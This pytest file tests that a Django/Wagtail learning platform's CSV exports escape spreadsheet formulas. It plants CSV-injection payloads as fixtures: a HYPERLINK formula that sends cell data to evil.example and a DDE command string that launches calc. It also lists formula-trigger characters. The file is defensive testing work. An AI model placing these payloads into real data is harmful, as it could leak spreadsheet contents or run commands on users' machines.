"""No CSV the site produces carries a live formula, Wagtail's admin exports included (issue 12,
finding 8: a page titled ``=HYPERLINK(...)`` came out of the site-history export as a formula).

An instructor titles pages and names themselves with formulas, a learner and an organisation
are named with them too; then every CSV download is fetched as the instructor and as an admin,
and no cell may start with what makes a spreadsheet run it.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import get_resolver
from django.utils import timezone
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from courses.models import LessonPage
from courses.services import enrollment_create
from lms.admin_exports import exports_spreadsheets
from lms.spreadsheets import csv_safe
from quizzes import services as quiz_services
from tests.conftest import make_user
from tests.quizzes.quiz_factories import answers_for, make_question, make_quiz
from tests.test_access_matrix import walk
from tests.test_employers import (
    VALID_ID,
    install_fake_verification,
    make_organisation,
    make_verdict,
)

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
ORGANISATION = '=HYPERLINK("http://evil.example/org","Org")'
PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
# What a spreadsheet runs as a formula at the start of a cell (OWASP).
LIVE = ("=", "+", "-", "@", "\t", "\r")
# The project's own CSV downloads, by the file that writes them (a new one joins the test).
OWN_CSV_WRITERS = {"courses/admin_views.py", "quizzes/admin_views.py", "employers/views.py"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rcmd", "'\rcmd"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width "="
        ("Valid credential", "Valid credential"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def cells_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def live_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(LIVE)]


def wagtail_export_urls() -> list[str]:
    """Every admin listing that offers a spreadsheet download (Wagtail's and ours)."""
    urls = set()
    for route, _, pattern in walk(get_resolver().url_patterns):
        if exports_spreadsheets(pattern.callback):
            assert not re.search(r"[<^$(]", route), f"{route}: add a download of it to this test"
            urls.add(f"/{route}")
    return sorted(urls)


@pytest.fixture
def formulas_everywhere(make_course, instructor, admin_user, monkeypatch):
    """Pages, people and an organisation named with formulas, in every report's data."""
    instructor.first_name, instructor.last_name, instructor.display_name = PERSON, "", PERSON
    instructor.save()
    course = make_course(TITLE, slug="formula-course", lessons=1, instructors=[instructor])
    lesson = LessonPage.objects.child_of(course).get()
    lesson.title = TITLE
    lesson.save_revision(user=instructor, log_action=True).publish(user=instructor)
    lesson.get_workflow().start(lesson, instructor)  # the workflow reports list it

    sly = make_user("sly", display_name=PERSON)
    enrollment_create(user=sly, course=course)
    quiz = make_quiz(course, [make_question("single_choice", title=TITLE)], title="Formula quiz")
    attempt = quiz_services.attempt_start(user=sly, quiz=quiz)
    quiz_services.attempt_submit(attempt=attempt, data=answers_for(attempt))

    hr = make_user("hana", display_name="Hana")
    organisation = make_organisation(ORGANISATION, status="approved", members=[hr])
    verifications = install_fake_verification(monkeypatch)
    verifications.verdicts[VALID_ID] = make_verdict(
        VALID_ID, holder={"name": PERSON}, achievement={"name": TITLE}
    )
    Redirect.objects.create(old_path="/old", redirect_link=TITLE)
    Page.objects.filter(pk=lesson.pk).update(
        locked=True, locked_by=instructor, locked_at=timezone.now()
    )
    return {"course": course, "quiz": quiz, "organisation": organisation, "hr": hr}


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_no_csv_download_carries_a_live_formula(formulas_everywhere, instructor, admin_user):
    world = formulas_everywhere
    downloads: dict[str, list[list[str]]] = {}
    for role, user in [("instructor", instructor), ("admin", admin_user)]:
        client = signed_in(user)
        for url in wagtail_export_urls():
            response = client.get(url, {"export": "csv"})
            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
                downloads[f"{role} {url}"] = cells_of(response)
    teacher = signed_in(instructor)
    course, quiz = world["course"], world["quiz"]
    downloads["learners"] = cells_of(
        teacher.get(f"/admin/learner-progress/{course.pk}/learners.csv")
    )
    downloads["quiz results"] = cells_of(teacher.get(f"/admin/quizzes/{quiz.pk}/results.csv"))
    bulk = signed_in(world["hr"]).post(
        f"/employers/{world['organisation'].pk}/bulk-check/",
        {"file": SimpleUploadedFile("ids.csv", f"id\n{VALID_ID}\n".encode())},
    )
    downloads["bulk check"] = cells_of(bulk)

    # The instructor reaches these Wagtail reports; the admin every export.
    for report in ["site-history", "aging-pages", "workflow", "workflow_tasks"]:
        assert f"instructor /admin/reports/{report}/" in downloads, report
    assert {f"admin {url}" for url in wagtail_export_urls()} <= set(downloads)
    live = {name: live_cells(rows) for name, rows in downloads.items()}
    assert not any(live.values()), {name: cells for name, cells in live.items() if cells}
    # ... and the formulas really were in them, shown as text.
    cells = {name: {cell for row in rows for cell in row} for name, rows in downloads.items()}
    assert csv_safe(TITLE) in cells["instructor /admin/reports/site-history/"]
    assert csv_safe(PERSON) in cells["instructor /admin/reports/site-history/"]
    assert csv_safe(ORGANISATION) in cells["admin /admin/reports/site-history/"]
    assert csv_safe(TITLE) in cells["admin /admin/reports/locked/"]
    assert csv_safe(TITLE) in cells["admin /admin/redirects/"]
    assert csv_safe(PERSON) in cells["learners"] and csv_safe(PERSON) in cells["quiz results"]
    assert {csv_safe(PERSON), csv_safe(TITLE)} <= cells["bulk check"]


def test_the_formula_safe_exports_keep_wagtails_own_checks(
    formulas_everywhere, learner, admin_user
):
    """Served again in front of Wagtail's URLs, the listings still work and need admin access."""
    client, admin = signed_in(learner), signed_in(admin_user)
    for url in wagtail_export_urls():
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 302 and "/login/" in response.url, url
        assert response["Cache-Control"].startswith("max-age=0"), url
        listing = admin.get(url)
        assert listing.status_code == 200 and listing["Content-Type"].startswith("text/html"), url
    assert Client().get("/admin/reports/site-history/", {"export": "csv"}).status_code == 302


def test_every_csv_the_project_writes_is_downloaded_above():
    root = Path(settings.BASE_DIR)
    writers = {
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        # Our packages only: not the tests, nor a virtualenv or scratch folder in the checkout.
        if path.relative_to(root).parts[0] not in {"tests", "bench", "var"}
        and not path.relative_to(root).parts[0].startswith(".")
        and 'content_type="text/csv' in path.read_text()
    }
    assert writers == OWN_CSV_WRITERS


def test_no_page_type_collects_form_submissions():
    """Wagtail's form-submission export is reached through a function view, which the routing in
    lms/admin_exports.py doesn't cover: a form page type must set a formula-safe
    ``submissions_list_view_class`` (and join the download test) first."""
    from wagtail.contrib.forms.models import FormMixin
    from wagtail.models import get_page_models

    assert not [model for model in get_page_models() if issubclass(model, FormMixin)]
